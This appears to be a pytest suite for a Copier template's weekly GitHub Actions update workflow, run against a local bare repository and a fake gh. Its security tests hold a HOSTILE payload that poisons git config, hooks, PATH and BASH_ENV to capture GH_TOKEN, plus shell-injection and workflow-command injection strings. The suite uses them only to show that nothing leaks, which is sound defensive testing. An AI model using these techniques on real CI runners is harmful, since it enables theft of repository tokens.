"""The files of the output come and go; the weekly workflow runs against a repository and a fake GitHub."""

from __future__ import annotations

import json
import os
import re
import shlex
import shutil
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import yaml
from packaging.requirements import Requirement

from tests.fast.actions import Job, run_job, run_jobs
from tests.fast.conftest import ROOT, MakeCatalogue, commit, copier, git, manifest, tree, write_components

OUTPUT = Path(__file__).parents[2]
WORKFLOW = ".github/workflows/binder-blocks-update.yml"
FILES = {WORKFLOW, ".github/binder-blocks/update.py", ".github/binder-blocks/requirements.txt"}
ALPHA = {
    "alpha/component.yml": manifest("Alpha"),
    "alpha/apt.txt": "libalpha\n",
    "alpha/postBuild": "#!/bin/sh\necho alpha\n",
}


def run_copier(*arguments: object) -> None:
    result = copier(*arguments)
    assert result.returncode == 0, result.stderr


def test_files_come_and_go(make_catalogue: MakeCatalogue, tmp_path: Path) -> None:
    root, course = make_catalogue(ALPHA), tmp_path / "course"
    commit(root, "1.0.0")
    run_copier("copy", "--trust", "--defaults", "--data", "components=[alpha]", root, course)
    commit(course)
    plain = tree(course)
    assert not (course / ".github").exists()

    def switch(*answers: str) -> dict[str, bytes]:
        data = [word for answer in answers for word in ("--data", answer)]
        run_copier("update", "--trust", "--defaults", "--vcs-ref", ":current:", *data, course)
        commit(course)
        return tree(course)

    with_workflow = switch("outputs=[updates]")
    assert with_workflow.keys() - plain.keys() == FILES
    assert with_workflow[".github/binder-blocks/update.py"] == (ROOT / "fleet/update.py").read_bytes()
    with_renovate = switch("updates_by=renovate")
    assert with_renovate.keys() - plain.keys() == {"renovate.json"}
    assert json.loads(with_renovate["renovate.json"])["ignoreScripts"] is False
    assert not (course / ".github").exists()
    assert switch("outputs=[]") == plain


@pytest.mark.parametrize(("updates", "path"), [("workflow", WORKFLOW), ("renovate", "renovate.json")])
def test_files_of_the_author_are_not_replaced(
    make_catalogue: MakeCatalogue, tmp_path: Path, updates: str, path: str
) -> None:
    course = tmp_path / "course"
    (course / path).parent.mkdir(parents=True)
    (course / path).write_text("mine\n")
    before, root = tree(course), make_catalogue(ALPHA)
    arguments = ("copy", "--trust", "--defaults", "--overwrite")
    result = copier(*arguments, "--data", "outputs=[updates]", "--data", f"updates_by={updates}", root, course)
    assert f"{path}: would be overwritten" in result.stderr
    assert result.returncode == 1
    assert tree(course) == before
    run_copier(*arguments, root, course)
    assert (course / path).read_text() == "mine\n"


def template(name: str) -> Path:
    return next(path for path in (OUTPUT / "files").rglob(name) if path.is_file())


def test_versions_are_pinned_within_the_ranges_of_the_catalogue() -> None:
    def read(path: Path) -> dict[str, Requirement]:
        lines = (line for line in path.read_text().splitlines() if not line.startswith("#"))
        return {requirement.name: requirement for requirement in map(Requirement, lines)}

    allowed = read(ROOT / "requirements.txt")
    pinned = read(template("requirements.txt"))
    assert pinned.keys() >= {"copier", "copier-template-extensions"}
    for name, requirement in pinned.items():
        (pin,) = requirement.specifier
        assert pin.operator == "=="
        assert pin.version in allowed[name].specifier, name


def test_workflow_keeps_the_rules() -> None:
    text = template("binder-blocks-update.yml").read_text()
    workflow = yaml.safe_load(text)
    used = re.findall(r"uses: (.*)", text)
    assert used
    for action in used:
        assert re.fullmatch(r"[\w-]+/[\w-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+", action), action
    for step in (step for job in workflow["jobs"].values() for step in job["steps"]):
        lines = step.get("run", "").splitlines()
        assert "${{" not in step.get("run", ""), "values come through the environment"
        assert len(lines) < 2 or lines[0] == "set -euo pipefail"


def test_job_that_runs_the_catalogue_has_nothing_to_write_with() -> None:
    workflow = yaml.safe_load(template("binder-blocks-update.yml").read_text())
    jobs = workflow["jobs"]
    ours = [name for name, job in jobs.items() if "update.py" in str(job)]
    assert (workflow["permissions"], ours) == ({}, ["update"])
    assert jobs["update"]["permissions"] == {"contents": "read"}
    assert not re.search("secrets|github.token", str(jobs["update"]))
    assert jobs["open"]["needs"] == "update"
    for job in jobs.values():
        (first, *_) = job["steps"]
        assert first["with"] == {"persist-credentials": False}


@dataclass
class Hosted:
    """A course on a GitHub of its own: a bare repository, a fake `gh`, and the catalogue it was made from."""

    catalogue: Path
    origin: Path
    folder: Path

    def release(self, version: str, files: dict[str, str]) -> None:
        write_components(self.catalogue, files)
        commit(self.catalogue, version)

    def clone(self, branch: str = "main", target: Path | None = None) -> Path:
        target = target or self.folder / f"clone-{len(list(self.folder.iterdir()))}"
        command = ("clone", "--quiet", "--depth", "1", "--branch", branch, self.origin.as_uri(), str(target))
        git(self.folder, *command)
        return target

    def push(self, branch: str, path: str, edit: Callable[[str], str]) -> None:
        """An edit by the author."""
        clone = self.clone(branch)
        (clone / path).write_text(edit((clone / path).read_text()))
        commit(clone)
        git(clone, "push", "--quiet", "origin", branch)

    def jobs(self, token: str = "") -> dict[str, Job]:
        """The workflow as it stands on the default branch, each job in a checkout and a home of its own."""
        workflow = self.clone() / WORKFLOW
        path = os.pathsep.join([str(self.folder / "bin"), str(Path(sys.executable).parent), os.environ["PATH"]])
        given = {"PATH": path, "GITHUB_REF_NAME": "main", "PYTHONDONTWRITEBYTECODE": "1"}
        folder, secrets = workflow.parents[2].with_suffix(".run"), {"secrets.BINDER_BLOCKS_TOKEN": token}
        jobs = run_jobs(workflow, folder, lambda target: self.clone(target=target), given, secrets)
        print(*(job.log for job in jobs.values()))
        return jobs

    def run(self) -> Job:
        """Both jobs as if they were one."""
        jobs = list(self.jobs().values())
        steps = {name: outcome for job in jobs for name, outcome in job.steps.items()}
        return Job(steps, "".join(job.log for job in jobs))

    @property
    def state(self) -> dict[str, Any]:
        loaded: dict[str, Any] = json.loads((self.folder / "gh/state.json").read_text())
        return loaded

    def change_state(self, change: Callable[[dict[str, Any]], object]) -> None:
        state = self.state
        change(state)
        (self.folder / "gh/state.json").write_text(json.dumps(state))

    @property
    def pulls(self) -> list[dict[str, Any]]:
        return list(self.state["pulls"])

    @property
    def calls(self) -> list[list[str]]:
        file = self.folder / "gh/calls"
        return [json.loads(line) for line in file.read_text().splitlines()] if file.exists() else []

    @property
    def branches(self) -> dict[str, str]:
        listing = git(self.origin, "for-each-ref", "--format", "%(refname:short) %(objectname)", "refs/heads")
        return dict(line.split() for line in listing.splitlines())

    def show(self, branch: str, path: str) -> str:
        return git(self.origin, "show", f"{branch}:{path}")


@pytest.fixture
def hosted(make_catalogue: MakeCatalogue, tmp_path: Path) -> Hosted:
    root, course, origin, folder = make_catalogue(ALPHA), tmp_path / "course", tmp_path / "origin", tmp_path / "hosted"
    commit(root, "1.0.0")
    answers = ("--data", "components=[alpha]", "--data", "outputs=[updates]")
    run_copier("copy", "--trust", "--defaults", *answers, root, course)
    git(tmp_path, "init", "--quiet", "--initial-branch", "main", str(course))
    commit(course)
    git(tmp_path, "clone", "--quiet", "--bare", str(course), str(origin))
    for name in ("bin", "gh"):
        (folder / name).mkdir(parents=True)
    (folder / "gh/state.json").write_text(json.dumps({"labels": ["bug"], "pulls": [], "drafts": True}))
    write_program(folder / "bin/gh", [sys.executable, OUTPUT / "tests/fake_gh.py", folder / "gh"])
    write_program(folder / "bin/pip", ["echo", "pip"])
    return Hosted(root, origin, folder)


def write_program(path: Path, command: list[object]) -> None:
    path.write_text(f'#!/bin/sh\nexec {shlex.join(map(str, command))} "$@"\n')
    path.chmod(0o755)


def test_nothing_new(hosted: Hosted) -> None:
    before = hosted.branches
    job = hosted.run()
    assert job.green
    assert "pip install --quiet --requirement .github/binder-blocks/requirements.txt" in job.log
    assert hosted.calls == []
    assert hosted.branches == before
    assert [name for name, outcome in job.steps.items() if outcome == "success"] == [
        *("Check out", "Set up Python", "Install Copier", "Update"),
    ]


def test_update_opens_one_pull_request(hosted: Hosted) -> None:
    hosted.release("1.1.0", {"alpha/apt.txt": "libalpha2\n"})
    assert hosted.run().green
    assert hosted.branches.keys() == {"main", "binder-blocks/1.1.0"}
    assert "libalpha2  # alpha\n" in hosted.show("binder-blocks/1.1.0", "binder/apt.txt")
    (pull,) = hosted.pulls
    assert (pull["base"], pull["headRefName"], pull["title"]) == ("main", "binder-blocks/1.1.0", "Binder Blocks 1.1.0")
    assert not pull["isDraft"]
    assert pull["labels"] == ["binder-blocks"]

    pushed, calls = hosted.branches, len(hosted.calls)
    assert hosted.run().green
    assert hosted.branches == pushed, "the same commit is not pushed again"
    assert [call[:2] for call in hosted.calls[calls:]] == [["auth", "setup-git"], ["pr", "list"]]

    hosted.push("main", "README.md", lambda text: text + "More.\n")
    assert hosted.run().green
    assert len(hosted.pulls) == 1
    assert hosted.show("binder-blocks/1.1.0", "README.md").endswith("More.\n")

    hosted.release("1.2.0", {"alpha/apt.txt": "libalpha3\n"})
    assert hosted.run().green
    assert [(pull["headRefName"], pull["state"]) for pull in hosted.pulls] == [
        ("binder-blocks/1.1.0", "CLOSED"),
        ("binder-blocks/1.2.0", "OPEN"),
    ]
    assert "binder-blocks/1.1.0" in hosted.branches
    assert "1.2.0" in hosted.pulls[0]["comments"][0]


BETA = {"beta/component.yml": manifest("Beta"), "beta/apt.txt": "libbeta\n"}


def test_a_release_that_changes_nothing_here_needs_no_pull_request(hosted: Hosted) -> None:
    hosted.release("1.1.0", BETA)
    before = hosted.branches["main"]
    job = hosted.run()
    assert job.green
    assert job.steps["Note the version"] == "success"
    assert hosted.pulls == []
    assert hosted.branches.keys() == {"main"}
    assert git(hosted.origin, "diff", "--numstat", before, "main").split() == ["1", "1", ".copier-answers.yml"]
    assert "_commit: 1.1.0" in hosted.show("main", ".copier-answers.yml")
    assert git(hosted.origin, "rev-list", "--count", f"{before}..main").strip() == "1"


@pytest.mark.parametrize(
    "change",
    [
        "echo more >>README.md",
        "sed --in-place 's/^_commit: .*/_commit: $(id)/' .copier-answers.yml",
        "sed --in-place 's/^_src_path: .*/_src_path: elsewhere/; s/^_commit: .*/&/' .copier-answers.yml",
        "chmod +x .copier-answers.yml",
        "git commit --quiet --allow-empty --message another; touch another",
    ],
)
def test_what_is_more_than_a_version_is_not_pushed_unread(hosted: Hosted, change: str) -> None:
    """The catalogue's code makes the commit, and says that it is a version."""
    hosted.release("1.1.0", BETA)
    before = hosted.branches
    clone = hosted.clone()
    path = clone / WORKFLOW
    amend = f"{change}\n          git add --all\n          git commit --quiet --amend --no-edit\n"
    text, found = re.subn(r"(          git bundle create)", rf"          {amend}\1", path.read_text())
    assert found == 1
    path.write_text(text)
    commit(clone)
    git(clone, "push", "--quiet", "origin", "main")
    before = hosted.branches
    job = hosted.run()
    assert not job.green
    assert job.steps["Take the files"] == "failure"
    assert hosted.branches == before
    assert hosted.pulls == []


def test_what_the_author_did_to_the_pull_request_is_respected(hosted: Hosted) -> None:
    hosted.release("1.1.0", {"alpha/apt.txt": "libalpha2\n"})
    assert hosted.run().green
    hosted.push("binder-blocks/1.1.0", "README.md", lambda text: "Mine.\n")
    hosted.push("main", "README.md", lambda text: text + "More.\n")
    pushed = hosted.branches
    job = hosted.run()
    assert job.green
    assert "has commits of yours" in job.log
    assert hosted.branches == pushed

    hosted.change_state(lambda state: state["pulls"][0].update(state="CLOSED"))
    job = hosted.run()
    assert job.green
    assert "Pull request #1 was closed, so this version is skipped" in job.log
    assert hosted.branches == pushed
    assert len(hosted.pulls) == 1


def test_conflict_cannot_be_missed(hosted: Hosted) -> None:
    hosted.push("main", "binder/apt.txt", lambda text: text.replace("libalpha  #", "libalpha=1  #"))
    hosted.release("1.1.0", {"alpha/apt.txt": "libalpha2\n"})
    main = hosted.branches["main"]
    job = hosted.run()
    assert not job.green
    assert [name for name, outcome in job.steps.items() if outcome == "failure"] == [
        "End red, since there are conflicts to settle"
    ]
    (pull,) = hosted.pulls
    assert pull["isDraft"]
    assert pull["title"] == "CONFLICT, not ready to merge: Binder Blocks 1.1.0"
    assert pull["labels"] == ["binder-blocks", "conflict"]
    assert "- `binder/apt.txt`" in pull["body"]
    assert "**Not ready to merge.**" in pull["body"]
    assert "binder/apt.txt" in job.log
    marked = hosted.show("binder-blocks/1.1.0", "binder/apt.txt")
    assert "<<<<<<<" in marked
    assert hosted.branches["main"] == main

    pushed = hosted.branches
    assert not hosted.run().green, "red every week, until it is settled"
    assert hosted.branches == pushed
    assert len(hosted.pulls) == 1

    hosted.push("binder-blocks/1.1.0", "binder/apt.txt", settle)
    pushed = hosted.branches
    assert hosted.run().green
    assert hosted.branches == pushed


def settle(text: str) -> str:
    return re.sub(r"(?s)<<<<<<<.*>>>>>>>[^\n]*", "libalpha2=1  # alpha", text)


def test_conflict_that_is_gone(hosted: Hosted) -> None:
    hosted.change_state(lambda state: state.update(drafts=False))
    hosted.push("main", "binder/apt.txt", lambda text: text.replace("libalpha  #", "libalpha=1  #"))
    hosted.release("1.1.0", {"alpha/apt.txt": "libalpha2\n"})
    assert not hosted.run().green
    assert hosted.pulls[0]["labels"] == ["binder-blocks", "conflict"], "without drafts, title and label have to do"
    hosted.push("main", "binder/apt.txt", lambda text: text.replace("libalpha=1  #", "libalpha  #"))
    assert hosted.run().green
    (pull,) = hosted.pulls
    assert (pull["title"], pull["labels"], pull["isDraft"]) == ("Binder Blocks 1.1.0", ["binder-blocks"], False)
    assert "Not ready" not in pull["body"]
    assert "<<<<<<<" not in hosted.show("binder-blocks/1.1.0", "binder/apt.txt")

    hosted.change_state(lambda state: state.update(drafts=True))
    hosted.push("main", "binder/apt.txt", lambda text: text.replace("libalpha  #", "libalpha=1  #"))
    assert not hosted.run().green
    (pull,) = hosted.pulls
    assert pull["isDraft"]
    assert "conflict" in pull["labels"]


def test_failure_says_why(hosted: Hosted) -> None:
    before = hosted.branches
    shutil.rmtree(hosted.catalogue)
    job = hosted.run()
    assert not job.green
    assert re.search(r"::error title=Binder Blocks could not be updated \(failed\)::.*catalogue", job.log)
    assert hosted.calls == []
    assert hosted.branches == before


def test_push_that_is_refused(hosted: Hosted) -> None:
    """As GitHub refuses changes below .github/workflows from github.token."""
    hook = hosted.origin / "hooks/pre-receive"
    hook.parent.mkdir(exist_ok=True)
    write_program(hook, ["false"])
    hosted.release("1.1.0", {"alpha/apt.txt": "libalpha2\n"})
    job = hosted.run()
    assert not job.green
    assert "BINDER_BLOCKS_TOKEN" in job.log
    assert hosted.pulls == []


HOSTILE = """
import os as _os, pathlib as _path

def _plant(leak):
    def put(path, text):
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        path.chmod(0o755)

    here, evil = _path.Path.cwd(), _path.Path(_os.environ["RUNNER_TEMP"], "evil")
    if (here / ".git").is_file():  # the update's own work tree, in .git/binder-blocks of the checkout
        here = here.parents[2]
    if not (here / ".git").is_dir():
        return
    tell = f'echo "$0: ${{GH_TOKEN:-none}}" >>"{leak}"'
    put(evil / "told", f"{tell}\\n")
    tell_and_go_on = 'PATH=${PATH#*evil/bin:}; exec "${0##*/}" "$@"'
    for name in ("git", "gh", "python3", "sed"):
        put(evil / "bin" / name, f"#!/bin/sh\\n{tell}\\n{tell_and_go_on}\\n")
    for name in ("pre-push", "reference-transaction", "post-commit", "post-checkout", "pre-auto-gc"):
        put(here / ".git/hooks" / name, f"#!/bin/sh\\n{tell}\\n")
        put(evil / "hooks" / name, f"#!/bin/sh\\n{tell}\\n")
    settings = f"[core]\\nfsmonitor = {evil}/hooks/pre-push\\nhooksPath = {evil}/hooks\\n"
    settings += f"[credential]\\nhelper = !sh {evil}/told\\n[diff]\\nexternal = {evil}/hooks/pre-push\\n"
    settings += f"[remote \\"origin\\"]\\nreceivepack = sh {evil}/told; git-receive-pack\\n"
    for file in (here / ".git/config", _path.Path(_os.environ["HOME"], ".gitconfig")):
        with file.open("a") as config:
            config.write(settings)
    put(_path.Path(_os.environ["HOME"], ".bashrc"), tell)
    put(here / "json.py", f"import os\\nos.system({tell!r})\\n")
    put(here / ".gitattributes", "* filter=evil diff=evil\\n")
    with open(_os.environ["GITHUB_PATH"], "a") as file:
        file.write(f"{evil}/bin\\n")
    with open(_os.environ["GITHUB_ENV"], "a") as file:
        file.write(f"BASH_ENV={evil}/told\\nGIT_SSH_COMMAND=sh {evil}/told\\nGH_PATH={evil}/bin/gh\\n")

if "RUNNER_TEMP" in _os.environ:
    _plant(LEAK)
"""


def test_catalogue_that_was_taken_over_gets_no_token(hosted: Hosted, tmp_path: Path) -> None:
    """Whatever it leaves on the machine on which it runs, the machine with the token has nothing of it."""
    leak, engine = tmp_path / "LEAK", hosted.catalogue / "extensions/blocks.py"
    engine.write_text(engine.read_text() + HOSTILE.replace("LEAK", repr(str(leak))))
    hosted.release("1.1.0", {"alpha/apt.txt": "libalpha2\n"})
    jobs = hosted.jobs(token="a personal token")
    told = leak.read_text().splitlines()
    assert {line.rpartition(": ")[2] for line in told} == {"none"}
    assert {"git", "script", "pre-push"} <= {line.rpartition(":")[0].rpartition("/")[2] for line in told}, "it did run"
    assert jobs["update"].later.keys() == {"BASH_ENV", "GIT_SSH_COMMAND", "GH_PATH", "PATH"}
    assert jobs["open"].green
    assert jobs["open"].later == {}
    assert [pull["title"] for pull in hosted.pulls] == ["Binder Blocks 1.1.0"]
    assert hosted.branches.keys() == {"main", "binder-blocks/1.1.0"}


@dataclass
class Handed:
    """What the first job may hand to the second, made by somebody who owns that machine."""

    hosted: Hosted
    folder: Path

    @property
    def made(self) -> Path:
        return self.folder / "artifacts/update"

    def texts(self, body: str = "Body.\n", **values: str) -> None:
        self.made.mkdir(parents=True, exist_ok=True)
        (self.made / "body.md").write_text(body, encoding="utf-8", errors="surrogateescape")
        first = {"result": "updated", "from": "1.0.0", "to": "1.1.0", "branch": "binder-blocks/1.1.0"}
        (self.made / "result.json").write_text(json.dumps({**first, **values}))

    def bundle(self, *script: str, refs: str = "HEAD^..HEAD") -> None:
        """One of a clone of the main branch after these commands, each a line for the shell."""
        clone = self.hosted.clone()
        for line in script:
            subprocess.run(["sh", "-c", line], cwd=clone, check=True, capture_output=True)
        git(clone, "bundle", "create", "--quiet", str(self.made / "update.bundle"), *refs.split())

    def open(self) -> Job:
        checkout, home = self.hosted.clone(), self.folder / "home"
        home.mkdir()
        path = os.pathsep.join([str(self.hosted.folder / "bin"), str(Path(sys.executable).parent), os.environ["PATH"]])
        given = {"PATH": path, "HOME": str(home), "GITHUB_REF_NAME": "main"}
        scratch, store = self.folder / "scratch", self.folder / "artifacts"
        job = run_job(checkout / WORKFLOW, "open", checkout, scratch, given, None, store)
        print(job.log)
        return job


COMMIT = "echo mine >>README.md; git commit --quiet --all --message x"


@pytest.fixture
def handed(hosted: Hosted, tmp_path: Path) -> Handed:
    one = Handed(hosted, tmp_path / "second")
    one.texts()
    one.bundle(COMMIT)
    return one


def test_what_is_handed_over_is_pushed_as_a_commit_of_its_own(handed: Handed) -> None:
    job, hosted = handed.open(), handed.hosted
    assert job.green
    branch, main = (hosted.branches[name] for name in ("binder-blocks/1.1.0", "main"))
    log = git(hosted.origin, "log", "-1", "--format=%P %cn%n%B", branch)
    assert log.rstrip("\n") == f"{main} Binder Blocks\nUpdate Binder Blocks from 1.0.0 to 1.1.0\n\nBody."
    assert hosted.show(branch, "README.md").endswith("mine\n")
    assert hosted.pulls[0]["body"] == "Body.\n"


WORDS = {
    "shell": "$(touch PWNED) `touch PWNED` ; touch PWNED\n'\"; touch PWNED\n",
    "expression": "${{ github.token }} ${{ secrets.BINDER_BLOCKS_TOKEN }}\n",
    "commands of the log": "::set-output name=a::b\n##[add-path]/evil\n::stop-commands::x\n",
    "what a terminal acts on": "a\x1b]0;x\x07b\x00c\u202ed\udcffe\r\n",
    "much": "x" * 1_000_000,
    "an option": "--repo\nother/repository\n",
    "the end of a here document": "PYTHON\ntouch PWNED\nEOF\n",
}


@pytest.mark.parametrize("result", ["updated", "conflict"])
@pytest.mark.parametrize("text", WORDS.values(), ids=WORDS)
def test_texts_are_words_alone(handed: Handed, text: str, result: str) -> None:
    handed.texts(text, **{"from": text, "to": text, "message": text, "result": result})
    job = handed.open()
    assert job.green == (result == "updated")
    (pull,) = handed.hosted.pulls
    title = pull["title"].removeprefix("CONFLICT, not ready to merge: ")
    assert re.fullmatch(r"Binder Blocks [A-Za-z0-9._+-]{1,60}", title)
    assert len(pull["body"]) < 65_000
    assert all(c in "\n\t" or c.isprintable() for c in pull["body"])
    assert not list(handed.folder.rglob("PWNED"))
    assert not list(handed.hosted.folder.rglob("PWNED"))
    assert not re.search(r"(?m)^(::(?!error title=Binder Blocks::|notice)|##\[)", job.log)
    assert handed.hosted.branches.keys() == {"main", "binder-blocks/1.1.0"}


BRANCHES = (
    *("main", "", "refs/heads/main", "binder-blocks/", "binder-blocks/../main", "binder-blocks/a.lock", "--mirror"),
    *("binder-blocks/-x", "binder-blocks/a b", "binder-blocks/a:main", "binder-blocks/a\nresult=conflict", "+main"),
    *("binder-blocks/$(touch PWNED)", "binder-blocks/" + "a" * 101, "binder-blocks/a..b", "binder-blocks/a."),
)


@pytest.mark.parametrize("branch", BRANCHES)
def test_no_other_branch_is_pushed(handed: Handed, branch: str) -> None:
    before = handed.hosted.branches
    handed.texts(branch=branch)
    job = handed.open()
    assert not job.green
    assert "::error title=Binder Blocks::What the update made is for a branch that" in job.log
    assert (handed.hosted.branches, handed.hosted.calls) == (before, [])


BUNDLES = {
    "two commits": ([COMMIT, COMMIT], "HEAD~2..HEAD"),
    "none of its own": ([], "HEAD"),
    "without a parent": (["git checkout --quiet --orphan x", COMMIT], "HEAD"),
    "an older parent": (["git commit --quiet --amend --message other", COMMIT], "HEAD"),
    "another branch alone": (["git checkout --quiet -b evil", COMMIT], "HEAD^..evil"),
    "a merge": (
        [
            "git branch b",
            COMMIT.replace("mine", "other"),
            "git checkout --quiet b",
            COMMIT,
            "git merge --quiet -s ours -",
        ],
        "HEAD~2..HEAD",
    ),
}


@pytest.mark.parametrize(("script", "refs"), BUNDLES.values(), ids=BUNDLES)
def test_no_other_commits_are_taken(handed: Handed, script: list[str], refs: str) -> None:
    before = handed.hosted.branches
    handed.bundle(*script, refs=refs)
    job = handed.open()
    assert not job.green
    assert "so it is not pushed." in job.log
    assert (handed.hosted.branches, handed.hosted.calls) == (before, [])


@pytest.mark.parametrize("data", [None, b"", b"[]", b"{}", b"[" * 100_000, b'{"branch": {}}', b"\xff"])
def test_what_is_no_result(handed: Handed, data: bytes | None) -> None:
    file = handed.made / "result.json"
    file.unlink() if data is None else file.write_bytes(data)
    before = handed.hosted.branches
    job = handed.open()
    assert not job.green
    assert re.search("(?m)^::error title=Binder Blocks::What the update says of itself cannot be read", job.log)
    assert handed.hosted.branches == before


@pytest.mark.parametrize("data", [None, b"", b"# v2 git bundle\n", b"gibberish" * 1000])
def test_what_is_no_bundle(handed: Handed, data: bytes | None) -> None:
    file = handed.made / "update.bundle"
    file.unlink() if data is None else file.write_bytes(data)
    before = handed.hosted.branches
    job = handed.open()
    assert not job.green
    assert "What the update made cannot be read" in job.log
    assert handed.hosted.branches == before


def test_more_refs_and_settings_in_files_go_nowhere(handed: Handed) -> None:
    """Names of refs in the bundle are not looked at, and attributes of the files meet no filter."""
    attributes = "echo '* filter=evil merge=evil diff=evil' >.gitattributes; git config filter.evil.clean cat"
    ref = "refs/heads/$(touch${IFS}PWNED)"
    script = (attributes, "git add --all", COMMIT, "git tag evil", f"git update-ref '{ref}' HEAD")
    handed.bundle(*script, refs=f"HEAD^..HEAD evil {ref}")
    assert handed.open().green
    assert handed.hosted.branches.keys() == {"main", "binder-blocks/1.1.0"}
    assert git(handed.hosted.origin, "tag") == ""


def test_program_reads_the_answers_that_copier_wrote(make_catalogue: MakeCatalogue, tmp_path: Path) -> None:
    """Another template has the usual name, with a newer release of its own."""
    root, course, ours = make_catalogue(ALPHA), tmp_path / "course", ".copier-answers.binder-blocks.yml"
    commit(root, "1.0.0")
    other = tmp_path / "other"
    (other / "template").mkdir(parents=True)
    (other / "copier.yml").write_text("_subdirectory: template\nname: {type: str, default: x}\n")
    (other / "template/{{ _copier_conf.answers_file }}.jinja").write_text("{{ _copier_answers | to_nice_yaml }}")
    commit(other, "1.0.0")
    run_copier("copy", "--defaults", other, course)
    data = ("--data", "components=[alpha]", "--data", "outputs=[updates]")
    run_copier("copy", "--trust", "--defaults", "--answers-file", ours, *data, root, course)
    commit(course)
    (other / "template/OTHER").write_text("other\n")
    commit(other, "1.1.0")
    write_components(root, {"alpha/apt.txt": "libalpha2\n"})
    commit(root, "1.1.0")
    program = [sys.executable, str(course / ".github/binder-blocks/update.py"), str(course)]
    result = subprocess.run(program, check=False, capture_output=True, text=True)
    assert (result.returncode, result.stdout) == (0, f"{course}\t1.0.0\t1.1.0\tupdated\t-\n"), result.stderr
    assert "libalpha2" in (course / "binder/apt.txt").read_text()
    assert not (course / "OTHER").exists()
    assert "_commit: 1.1.0\n" in (course / ours).read_text()
    assert "_commit: 1.0.0\n" in (course / ".copier-answers.yml").read_text()


def test_folder_as_the_source_is_told(make_catalogue: MakeCatalogue, tmp_path: Path) -> None:
    root = make_catalogue(ALPHA)
    commit(root, "1.0.0")
    copied = copier("copy", "--trust", "--defaults", root, tmp_path / "plain")
    assert f"- NOTE: nobody else can update from '{root}', a folder of this computer; for that," in copied.stderr
    assert "'updates'" not in copied.stderr
    copied = copier("copy", "--trust", "--defaults", "--data", "outputs=[updates]", root, tmp_path / "course")
    assert f"- WARNING: nobody else can update from '{root}', a folder of this computer, so the output" in copied.stderr
    commit(tmp_path / "course")
    again = copier("update", "--trust", "--defaults", tmp_path / "course")
    assert "nobody else can update" not in again.stderr
